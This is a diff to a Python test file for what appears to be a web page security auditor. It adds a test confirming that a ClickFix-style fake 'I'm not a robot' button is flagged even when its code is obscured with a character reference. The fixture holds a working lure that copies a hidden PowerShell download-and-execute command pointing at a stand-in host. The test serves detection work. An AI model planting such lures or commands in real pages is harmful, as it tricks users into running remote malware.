@@ -421,6 +421,16 @@ def test_a_loader_prepended_before_html_is_one_finding(audit_listed: AuditListed
     assert [(f.kind, f.severity) for f in unknown.findings] == [("appended-script", H)]
 
 
+def test_a_lure_whose_words_are_character_references_is_still_read(
+        audit_listed: AuditListed) -> None:
+    """An event handler's character references are resolved before its code runs: a
+    ClickFix button that writes `&#99;lipboard` copies all the same."""
+    lure = ("<button onclick=\"navigator.&#99;lipboard.writeText('powershell -w hidden -c "
+            "iwr https://captcha-verify-cdn.test/v.ps1 | iex')\">I'm not a robot</button>")
+    report = audit_listed(wp_page(body_top=lure), URL)
+    assert ("clipboard-command", H) in [(f.kind, f.severity) for f in report.findings]
+
+
 def test_only_the_pages_own_html_start_tag_has_a_before(audit_listed: AuditListed) -> None:
     """A post body (a fragment) holds no `<html>` start tag: one in a frame's `srcdoc` or
     a script's string makes nothing before it prepended."""
